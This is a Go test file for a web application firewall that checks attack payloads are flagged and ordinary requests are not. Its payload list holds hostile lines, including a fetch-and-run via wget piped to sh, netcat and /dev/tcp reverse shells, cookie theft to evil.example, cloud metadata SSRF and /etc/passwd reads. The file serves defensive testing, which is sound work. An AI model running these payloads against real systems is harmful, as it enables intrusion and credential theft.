package shield

import (
	"bytes"
	"cmp"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"mime/multipart"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// attack is one payload of a class, and where it is.
type attack struct{ class, place, payload string }

// attacks are of the classes that the core rules cover, each in places where apps read it.
var attacks = []attack{
	{"sqli", "query", "1' OR '1'='1' -- "},
	{"sqli", "form", "1 UNION SELECT username, password FROM users--"},
	{"sqli", "json", "'; DROP TABLE accounts; --"},
	{"sqli", "cookie", "1' AND SLEEP(5)#"},
	{"sqli", "query", "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)"},
	{"sqli", "multipart", "admin' or 1=1#"},
	{"sqli", "query", "1;WAITFOR DELAY '0:0:5'--"},
	{"sqli", "nested", "x' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables-- -"},
	{"sqli", "xml", "1' or sleep(10)='"},
	{"xss", "query", "<script>alert(document.cookie)</script>"},
	{"xss", "form", `<img src=x onerror=alert(1)>`},
	{"xss", "json", `"><svg/onload=fetch('//evil.example/'+document.cookie)>`},
	{"xss", "query", `javascript:alert(document.domain)`},
	{"xss", "header", `<script src=//evil.example/x.js></script>`},
	{"xss", "multipart", `<iframe src="javascript:alert(1)"></iframe>`},
	{"xss", "nested", `<body onload=alert('x')>`},
	{"xss", "cookie", `<script>new Image().src='//evil.example?'+document.cookie</script>`},
	{"lfi", "query", "../../../../etc/passwd"},
	{"lfi", "form", "....//....//....//etc/shadow"},
	{"lfi", "json", `..\..\..\windows\win.ini`},
	{"lfi", "query", "/proc/self/environ"},
	{"lfi", "cookie", "../../../../../../etc/passwd"},
	{"lfi", "path", "/.git/config"},
	{"lfi", "path", "/backup/.env"},
	{"lfi", "path", "/wp-config.php.bak"},
	{"lfi", "file", "../../../../var/www/shell.php"},
	{"rfi", "query", "http://203.0.113.9/shell.txt?"},
	{"rfi", "query", "ftp://evil.example/c99.php"},
	{"rfi", "form", "https://192.0.2.7/cmd.txt?"},
	{"rce", "query", "; cat /etc/passwd"},
	{"rce", "form", "$(wget http://evil.example/x.sh -O- | sh)"},
	{"rce", "json", "`curl http://evil.example/$(whoami)`"},
	{"rce", "header", "() { :; }; /bin/bash -c 'id'"},
	{"rce", "query", "| nc -e /bin/sh 203.0.113.9 4444"},
	{"rce", "form", "powershell.exe -EncodedCommand SQBFAFgA"},
	{"rce", "nested", "127.0.0.1; uname -a"},
	{"rce", "multipart", "; bash -i >& /dev/tcp/203.0.113.9/443 0>&1"},
	{"php", "query", "<?php system($_GET['c']); ?>"},
	{"php", "form", "php://filter/convert.base64-encode/resource=index.php"},
	{"php", "json", `O:8:"Exploit":1:{s:4:"data";s:10:"phpinfo();";}`},
	{"php", "query", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw=="},
	{"php", "file", "avatar.php"},
	{"php", "query", "phar://upload.jpg/x.php"},
	{"java", "header", "${jndi:ldap://evil.example/a}"},
	{"java", "query", "${jndi:${lower:l}${lower:d}ap://evil.example/a}"},
	{"java", "json", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/x}"},
	{"java", "form", "class.module.classLoader.resources.context.parent.pipeline.first.pattern"},
	{"java", "query", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(new java.lang.ProcessBuilder(#cmd))}"},
	{"java", "form", "T(java.lang.Runtime).getRuntime().exec('id')"},
	{"java", "cookie", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"},
	{"ssrf", "query", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
	{"ssrf", "json", "http://metadata.google.internal/computeMetadata/v1/"},
	{"ssrf", "form", "http://100.100.100.200/latest/meta-data/"},
	{"ssrf", "query", "gopher://127.0.0.1:6379/_SET%20x"},
	{"nosql", "query-name", "user[$ne]"},
	{"nosql", "json-name", "$where"},
	{"nosql", "form", "{'$gt': ''}"},
	{"nosql", "query", "true, $where: '1 == 1'"},
	{"ssti", "query", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"},
	{"ssti", "form", "<%= `id` %>"},
	{"ssti", "json", "{{''.__class__.__mro__[1].__subclasses__()}}"},
	{"ssti", "query", "${T(java.lang.System).getenv()}"},
	{"nodejs", "json", "require('child_process').execSync('id')"},
	{"nodejs", "json-name", "__proto__"},
	{"nodejs", "query", "_$$ND_FUNC$$_function(){process.mainModule.require('child_process').exec('id')}()"},
	{"protocol", "query", "x\r\nSet-Cookie: admin=1"},
	{"protocol", "form", "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n"},
	{"protocol", "query", "x\nGET /admin HTTP/1.1"},
	{"protocol", "charset", "utf-7"},
	{"protocol", "encoding", "gzip"},
	{"scanner", "agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
	{"scanner", "agent", "Nikto/2.5.0"},
	{"scanner", "agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
	{"scanner", "agent", "masscan/1.3"},
	{"fixation", "query", "<script>document.cookie='sid=1;domain=.corp.test'</script>"},
	{"xxe", "entity", "file:///etc/passwd"},
	{"xxe", "entity", "http://169.254.169.254/latest/meta-data/"},
	{"encoded", "query", "%3Cscript%3Ealert%281%29%3C%2Fscript%3E"},
	{"encoded", "form", "&lt;script&gt;alert(1)&lt;/script&gt;"},
	{"encoded", "query", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"},
	{"encoded", "json-escaped", "<script>alert(1)</script>"},
	{"untyped", "untyped", `{"q":"<script>alert(1)</script>"}`},
	{"untyped", "untyped", "1' UNION SELECT password FROM users-- "},
}

// request puts the attack where it belongs, in an otherwise ordinary request.
func (a attack) request() *Request {
	q := ordinary("GET", "/page", "", "")
	body := func(contentType, text string) *Request { return ordinary("POST", "/page", contentType, text) }
	quoted := func(s string) string {
		text, err := json.Marshal(s)
		if err != nil {
			panic(err)
		}
		return string(text)
	}
	switch a.place {
	case "query":
		q.Target += "?view=full&text=" + url.QueryEscape(a.payload)
	case "query-name":
		q.Target += "?" + url.QueryEscape(a.payload) + "=x"
	case "path":
		q.Path, q.Target = a.payload, (&url.URL{Path: a.payload}).EscapedPath()
	case "header":
		q.Header.Set("X-Api-Version", a.payload)
		q.Header.Set("Referer", a.payload)
		q.Header.Set("User-Agent", a.payload)
	case "agent":
		q.Header.Set("User-Agent", a.payload)
	case "cookie":
		q.Header.Set("Cookie", "theme=dark; draft="+a.payload)
	case "form":
		q = body("application/x-www-form-urlencoded", url.Values{"title": {"Notes"}, "text": {a.payload}}.Encode())
	case "json":
		q = body("application/json; charset=utf-8", `{"title":"Notes","text":`+quoted(a.payload)+`}`)
	case "nested":
		q = body("application/vnd.api+json", `{"data":[{"page":{"parts":["x",`+quoted(a.payload)+`]}}]}`)
	case "json-name":
		q = body("application/json", `{`+quoted(a.payload)+`:{"isAdmin":"1"}}`)
	case "json-escaped":
		var b strings.Builder
		for _, r := range a.payload {
			fmt.Fprintf(&b, `\u%04x`, r)
		}
		q = body("application/json", `{"text":"`+b.String()+`"}`)
	case "xml":
		q = body("application/xml", "<page><text>"+strings.ReplaceAll(a.payload, "<", "&lt;")+"</text></page>")
	case "entity":
		q = body("text/xml", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "`+a.payload+`">]><x>&e;</x>`)
	case "multipart", "file":
		var b bytes.Buffer
		w := multipart.NewWriter(&b)
		w.WriteField("title", "Notes")
		if a.place == "file" {
			file, _ := w.CreateFormFile("upload", a.payload)
			file.Write([]byte("GIF89a"))
		} else {
			w.WriteField("text", a.payload)
		}
		w.Close()
		q = body(w.FormDataContentType(), b.String())
	case "charset":
		q = body("application/x-www-form-urlencoded; charset="+a.payload, "text=%2BADw-script%2BAD4-")
	case "encoding":
		q = body("application/json", "\x1f\x8b\x08")
		q.Header.Set("Content-Encoding", a.payload)
	case "untyped":
		q = body("text/plain", a.payload)
	default:
		panic("BUG: no place " + a.place)
	}
	return q
}

// ordinary is a request as a browser sends it.
func ordinary(method, target, contentType, body string) *Request {
	path, _, _ := strings.Cut(target, "?")
	if unescaped, err := url.PathUnescape(path); err == nil {
		path = unescaped
	}
	q := &Request{Method: method, Protocol: "HTTP/1.1", Host: "wiki.corp.test", Path: path, Target: target, Client: "10.1.2.3", Length: int64(len(body)),
		Body: []byte(body), Whole: true, Header: http.Header{
			"User-Agent":      {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36"},
			"Accept":          {"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
			"Accept-Language": {"en-GB,en;q=0.9,de;q=0.8"},
			"Accept-Encoding": {"gzip, deflate, br, zstd"},
			"Referer":         {"https://wiki.corp.test/start?tab=recent"},
			"Cookie":          {"theme=dark; _ga=GA1.2.1234567.1712345678; session_hint=b64.eyJhIjoxfQ"},
			"Sec-Fetch-Site":  {"same-origin"}, "Sec-Fetch-Mode": {"navigate"}, "Sec-Fetch-Dest": {"document"},
		}}
	if contentType != "" {
		q.Header.Set("Content-Type", contentType)
	}
	return q
}

var testRules = Rules{Mode: Block, Threshold: 5, Paranoia: 1, Body: 128 << 10, Arguments: 500, Depth: 32, Parts: 64}

func compiled(t testing.TB, rules Rules) *Inspector {
	t.Helper()
	i, err := Compile(rules)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := i.Close(); err != nil {
			t.Error(err)
		}
	})
	return i
}

// The classes of attacks that the core rules cover are found, at the lowest paranoia, wherever an app reads them.
func TestAttacksAreFound(t *testing.T) {
	rates := rates(attacks, compiled(t, testRules).Inspect)
	report(t, rates)
	all, found := 0, 0
	for class, r := range rates {
		all, found = all+r.all, found+r.found
		if 3*r.found < 2*r.all {
			t.Errorf("%s: %d of %d are found, want two thirds: not %q", class, r.found, r.all, r.missed)
		}
	}
	if all < 80 || 10*found < 9*all {
		t.Errorf("%d of %d attacks are found, want 9 of 10", found, all)
	}
}

type rate struct {
	all, found int
	missed     []string
}

// rates is how many attacks of each class reach the default threshold.
func rates(list []attack, inspect func(*Request) Findings) map[string]*rate {
	byClass := map[string]*rate{}
	for _, a := range list {
		r := byClass[a.class]
		if r == nil {
			r = &rate{}
			byClass[a.class] = r
		}
		r.all++
		if inspect(a.request()).Score >= 5 {
			r.found++
		} else {
			r.missed = append(r.missed, a.place+": "+a.payload)
		}
	}
	return byClass
}

func report(t *testing.T, byClass map[string]*rate) {
	t.Helper()
	var classes []string
	for class := range byClass {
		classes = append(classes, class)
	}
	slices.Sort(classes)
	for _, class := range classes {
		r := byClass[class]
		t.Logf("%-9s %2d of %2d found; missed: %q", class, r.found, r.all, r.missed)
	}
}

// The attacks tell an inspector that looks everywhere from one that does not: each of these misses some that the real one
// finds.
func TestAttacksTellWhereAnInspectorDoesNotLook(t *testing.T) {
	i := compiled(t, testRules)
	without := func(change func(*Request)) func(*Request) Findings {
		return func(q *Request) Findings {
			change(q)
			return i.Inspect(q)
		}
	}
	real := count(rates(attacks, i.Inspect))
	for name, mutant := range map[string]func(*Request) Findings{
		"bodies":      without(func(q *Request) { q.Body = nil }),
		"cookies":     without(func(q *Request) { q.Header.Del("Cookie") }),
		"queries":     without(func(q *Request) { q.Target, _, _ = strings.Cut(q.Target, "?") }),
		"paths":       without(func(q *Request) { q.Target = "/" }),
		"headers":     without(func(q *Request) { q.Header = http.Header{"Content-Type": q.Header["Content-Type"]} }),
		"JSON":        without(func(q *Request) { dropBody(q, "json") }),
		"forms":       without(func(q *Request) { dropBody(q, "urlencoded") }),
		"multiparts":  without(func(q *Request) { dropBody(q, "multipart") }),
		"XML":         without(func(q *Request) { dropBody(q, "xml") }),
		"other types": without(func(q *Request) { dropBody(q, "plain") }),
		"encodings": without(func(q *Request) {
			if q.Header.Get("Content-Encoding") != "" {
				q.Header.Del("Content-Encoding")
				q.Body = nil
			}
		}),
		"escapes": without(func(q *Request) {
			if strings.Contains(q.Header.Get("Content-Type"), "json") {
				q.Header.Set("Content-Type", "application/octet-stream")
				q.Body = bytes.ReplaceAll(q.Body, []byte("{"), []byte("x"))
			}
		}),
	} {
		if got := count(rates(attacks, mutant)); got >= real {
			t.Errorf("an inspector that ignores %s finds %d attacks, the real one %d", name, got, real)
		}
	}
}

func dropBody(q *Request, kind string) {
	if strings.Contains(q.Header.Get("Content-Type"), kind) {
		q.Body = nil
	}
}

func count(byClass map[string]*rate) (found int) {
	for _, r := range byClass {
		found += r.found
	}
	return found
}

// usual are requests as people's browsers and programs send them to wikis, trackers, dashboards, code forges, shops and
// ledgers.
func usual() map[string]*Request {
	list := map[string]*Request{}
	get := func(targets ...string) {
		for _, target := range targets {
			list["GET "+target] = ordinary("GET", target, "", "")
		}
	}
	send := func(method, target, contentType, body string) {
		list[cmp.Or(method, "POST")+" "+target+" "+contentType+fmt.Sprint(len(list))] = ordinary(method, target, contentType, body)
	}
	get("/", "/favicon.ico", "/assets/app.4f2a9c.js", "/static/css/main.css?v=12", "/wiki/Caf%C3%A9_au_lait", "/wiki/%E6%97%A5%E6%9C%AC%E8%AA%9E",
		"/search?q=how+to+select+a+good+table+from+the+list", "/search?q=rock+%26+roll", "/search?q=O%27Reilly+books", "/search?q=C%2B%2B+or+Go%3F",
		"/search?q=drop+me+a+line", "/search?q=100%25+cotton", "/search?q=%22exact+phrase%22", "/issues?assignee=me&state=open&sort=updated-desc&page=2",
		"/issues/4711", "/api/v1/users/42?fields=name,email&expand=teams", "/dashboard/db/cpu?from=now-6h&to=now&refresh=30s",
		"/api/datasources/proxy/1/api/v1/query_range?query=rate(http_requests_total%5B5m%5D)&start=1712345678&end=1712349278&step=15",
		"/git/team/project.git/info/refs?service=git-upload-pack", "/team/project/src/branch/main/README.md", "/team/project/commit/4f2a9c0d1e2b3c4d5e6f708192a3b4c5d6e7f809",
		"/download/report-2025-Q3.pdf", "/calendar?date=2025-11-23&tz=Europe%2FBerlin", "/return?to=%2Fwiki%2Fstart", "/cart?item=12&qty=3&coupon=SAVE10",
		"/map?lat=48.137154&lon=11.576124&zoom=12", "/events?since=1712345678&types=push,pull_request", "/thumb/320x240/photo%201.jpg",
		"/people?name=Se%C3%A1n+O%27Brien", "/people?name=Jean-Luc%20D%27Arc", "/mail?to=ada%40corp.test&subject=Re%3A%20Lunch%3F", "/table?filter=price%3E100",
		"/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_2025", "/docs/select-update-delete", "/ws/info?t=1712345678901", "/health", "/metrics")
	form := "application/x-www-form-urlencoded"
	send("POST", "/login", form, "user=ada&remember=on&next=%2Fstart")
	send("POST", "/comment", form, "text=Thanks%2C+that%27s+great%21+I%27ll+look+into+it+tomorrow.&issue=42")
	send("POST", "/comment", form, "text=Dear+all%2C%0D%0A%0D%0Athe+meeting+is+at+3+o%27clock.%0D%0A%0D%0ARegards%2C%0D%0AAda")
	send("POST", "/profile", form, "name=Se%C3%A1n+O%27Brien&city=M%C3%BCnchen&phone=%2B49+89+123456&bio=I+like+tea+%26+code.")
	send("POST", "/order", form, "item=12&qty=3&price=19.90&currency=EUR&note=Please+leave+at+the+door%3B+thanks")
	send("POST", "/settings", form, "theme=dark&lang=en-GB&emails%5B%5D=weekly&emails%5B%5D=security&csrf=Zm9vYmFyYmF6")
	send("POST", "/page", form, "title=Release+notes+2.1&text=%23+Changes%0A%0A*+faster+start%0A*+fixes+%23123+and+%23124%0A%0ASee+%5Bthe+docs%5D(https%3A%2F%2Fdocs.corp.test%2Fnotes).")
	send("POST", "/survey", form, "q1=5&q2=4&q3=Good+selection%2C+fair+prices.&q4=No")
	js := "application/json"
	send("POST", "/api/issues", js, `{"title":"Login button is hidden on small screens","labels":["bug","ui"],"assignee":null,"body":"Steps:\n1. open /login\n2. shrink the window\n\nIt's gone!"}`)
	send("PUT", "/api/pages/7", js, `{"title":"Onboarding","version":12,"text":"Welcome! Ask Ada or Bob if you're lost. Lunch is at 12:30."}`)
	send("PATCH", "/api/users/42", "application/merge-patch+json", `{"name":"Zoë","active":true,"limit":12.5}`)
	send("DELETE", "/api/pages/7", "", "")
	send("POST", "/graphql", js, `{"operationName":"Me","variables":{"first":10},"query":"query Me($first: Int!) { me { id name projects(first: $first) { nodes { id title } } } }"}`)
	send("POST", "/api/ds/query", js, `{"queries":[{"refId":"A","expr":"sum(rate(node_cpu_seconds_total{mode!=\"idle\"}[5m])) by (instance)","intervalMs":15000}],"from":"now-1h","to":"now"}`)
	send("POST", "/api/messages", js, `{"channel":"general","text":"Deploy of v2.3.1 is done :tada: see https://ci.corp.test/builds/4711"}`)
	send("POST", "/api/track", js, `[{"event":"view","page":"/start","ms":182},{"event":"click","id":"save"}]`)
	send("POST", "/api/upload/meta", js, `{"name":"Q3 report (final).pdf","size":182736,"type":"application/pdf","sha256":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}`)
	send("POST", "/api/events", js, `{"start":"2025-11-24T09:00:00+01:00","end":"2025-11-24T10:00:00+01:00","title":"Stand-up","attendees":["ada@corp.test","bob@corp.test"],"recurrence":{"freq":"weekly","days":["mo","we"]}}`)
	send("POST", "/rpc", "text/xml", `<?xml version="1.0"?><methodCall><methodName>page.get</methodName><params><param><value><int>7</int></value></param></params></methodCall>`)
	send("POST", "/soap", "text/xml; charset=utf-8", `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><GetOrder><Id>4711</Id></GetOrder></s:Body></s:Envelope>`)
	send("POST", "/notes", "text/plain; charset=utf-8", "Buy milk, bread and tea.\nCall Bob back.\n")
	send("PUT", "/files/photo.jpg", "image/jpeg", "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\xff\xfe")
	send("POST", "/git/team/project.git/git-upload-pack", "application/x-git-upload-pack-request", "0032want 4f2a9c0d1e2b3c4d5e6f708192a3b4c5d6e7f809\n00000009done\n")
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	w.WriteField("description", "Our summer party, it's the best one yet")
	file, _ := w.CreateFormFile("photo", "IMG_2041 (1).jpg")
	file.Write([]byte("\xff\xd8\xff\xe0" + strings.Repeat("\x00\x7f", 400)))
	w.Close()
	send("POST", "/upload", w.FormDataContentType(), b.String())
	curl := ordinary("GET", "/api/v1/status", "", "")
	curl.Header = http.Header{"User-Agent": {"curl/8.5.0"}, "Accept": {"*/*"}, "Authorization": {"Bearer " + base64.RawURLEncoding.EncodeToString([]byte("opaque token of an app"))}}
	list["curl"] = curl
	options := ordinary("OPTIONS", "/api/v1/users", "", "")
	list["OPTIONS"] = options
	head := ordinary("HEAD", "/download/report.pdf", "", "")
	list["HEAD"] = head
	h2 := ordinary("POST", "/api/pages", js, `{"title":"A title"}`)
	h2.Protocol, h2.Length = "HTTP/2.0", -1
	list["HTTP/2 without a length"] = h2
	expect := ordinary("PUT", "/api/pages/8", js, `{"title":"A title"}`)
	expect.Header.Set("Expect", "100-continue")
	list["Expect"] = expect
	return list
}

// nuisances are ordinary requests that the core rules flag, with the one rule that does: what exclusions are for.
var nuisances = map[string]int64{
	"/graphql": 942290, // "query Me($first" looks like an operator of MongoDB
	"/git/team/project.git/info/refs?service=git-upload-pack": 930130, // ".git/"
	"/git/team/project.git/git-upload-pack":                   930130,
}

// Ordinary requests reach no threshold at the lowest paranoia, but for those that are known to.
func TestOrdinaryRequestsAreNotFound(t *testing.T) {
	i := compiled(t, testRules)
	list := usual()
	flagged := 0
	for name, q := range list {
		found := i.Inspect(q)
		if found.Score >= 5 {
			flagged++
		}
		if known := nuisances[q.Target]; known != 0 {
			if !slices.Equal(found.Rules, []int64{known}) {
				t.Errorf("%s: rules %v, want %d alone", name, found.Rules, known)
			}
		} else if found.Score >= 5 {
			t.Errorf("%s scores %d: %v", name, found.Score, found.Rules)
		}
	}
	t.Logf("%d of %d ordinary requests reach the default threshold", flagged, len(list))
}

// Exclusions take away what they name, where they name it, and nothing else.
func TestExclusionsAreNarrow(t *testing.T) {
	rules := testRules
	rules.Exclude = []Exclusion{
		{Rules: []string{"942290"}, Paths: []string{"/graphql"}, Arguments: []string{"json.query"}},
		{Rules: []string{"930130"}, Paths: []string{"/git/"}},
		{Tags: []string{"attack-xss"}, Rules: []string{"941000-941999"}, Arguments: []string{"html", "cookie:draft", "header:X-Note"}},
		{Rules: []string{"942000-942999"}, Paths: []string{"/sql/", "/report"}},
	}
	i := compiled(t, rules)
	for _, q := range usual() {
		if found := i.Inspect(q); found.Score >= 5 {
			t.Errorf("%s %s scores %d: %v", q.Method, q.Target, found.Score, found.Rules)
		}
	}
	sql, script := "1%27%20OR%20%271%27=%271%27%20--%20", "%3Cscript%3Ealert(1)%3C/script%3E"
	for target, excluded := range map[string]bool{
		"/sql?q=" + sql: true, "/sql/?q=" + sql: true, "/sql/a/b?q=" + sql: true, "/report?q=" + sql: true,
		"/sqlx?q=" + sql: false, "/report/?q=" + sql: false, "/report/x?q=" + sql: false, "/?q=" + sql: false, "/a/sql/?q=" + sql: false,
		"/sql/?q=" + script: false, "/?html=" + script: true, "/sql/?html=" + script: true, "/?html2=" + script: false, "/?text=" + script: false,
		"/?html=" + sql: false, "/git/x?q=" + script: false, "/graphql?query=" + sql: false,
	} {
		if found := i.Inspect(ordinary("GET", target, "", "")); (found.Score < 5) != excluded {
			t.Errorf("%s: score %d by %v, excluded: %v", target, found.Score, found.Rules, excluded)
		}
	}
	for header, excluded := range map[string]bool{"draft=<script>alert(1)</script>": true, "other=<script>alert(1)</script>": false} {
		q := ordinary("GET", "/", "", "")
		q.Header.Set("Cookie", header)
		if found := i.Inspect(q); (found.Score < 5) != excluded {
			t.Errorf("cookie %s: score %d by %v", header, found.Score, found.Rules)
		}
	}
}
